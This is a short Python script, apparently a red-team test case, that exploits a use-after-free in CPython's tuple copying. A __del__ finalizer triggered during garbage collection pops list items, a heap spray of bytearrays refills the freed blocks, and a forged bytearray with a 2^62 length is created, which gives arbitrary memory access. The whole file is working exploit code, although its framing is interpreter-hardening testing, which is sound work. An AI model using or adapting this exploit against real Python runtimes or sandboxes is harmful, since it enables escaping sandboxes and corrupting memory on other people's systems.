# technique: tuple(L) reads L's item pointer and length, then allocates the tuple: a collection there runs a __del__ that pops items off L (their blocks refilled by bytearrays), and the copy takes references to the stale pointers: a fake bytearray (red-team pass 71)
# expect: any
import struct
N = 25
L = list(tuple(bytes([i]) * 150 for i in range(N)))   # allocated == 25; items: 183 -> 192-byte blocks
R = list(range(N))
K = 10                                                  # pops that keep the array where it is
fake = struct.pack('<QQqqQQq', 1 << 40, 0x1001d00, 1 << 62, 1 << 62, 0, 0, 0)
payload = fake + b'\0' * (191 - len(fake))
fired = []
spray = []
class D:
    def __del__(self):
        if fired: return
        fired.append(1)
        for _ in range(K):
            L.pop()                              # items freed; the array keeps their stale pointers
        for _ in range(64):
            spray.append(bytearray(payload))     # 192-byte buffers reclaim the freed bytes objects
def mk():
    a = D(); b = D(); a.o = b; b.o = a
mk()
junk = []
t = None
for i in range(2000):
    t = None                                     # -1 (no other copy holds L's items)
    junk.append(tuple(R))                        # +1: never a new maximum of the gen-0 count
    t = tuple(L)                                 # +1: the collection always starts in this tuple_alloc
    if fired: break
m = t[N - 1]
print(i, len(L), len(t), type(m).__name__)
print(len(m) == 1 << 62, bytes(m[0x400000:0x400004]))
if type(m).__name__ == 'bytearray' and len(m) == 1 << 62:
    raise RuntimeError('use-after-free: a fake bytearray')
